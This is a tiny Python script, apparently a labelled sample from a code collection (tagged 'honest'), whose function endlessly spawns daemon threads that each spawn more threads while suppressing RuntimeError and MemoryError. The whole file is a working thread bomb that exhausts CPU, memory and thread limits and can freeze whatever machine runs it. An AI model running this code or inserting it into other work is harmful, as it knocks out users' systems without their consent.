# Threads that start threads.
# %% honest
# %%
import threading


def more():
    while True:
        try:
            threading.Thread(target=more, daemon=True).start()
        except (RuntimeError, MemoryError):
            pass


more()
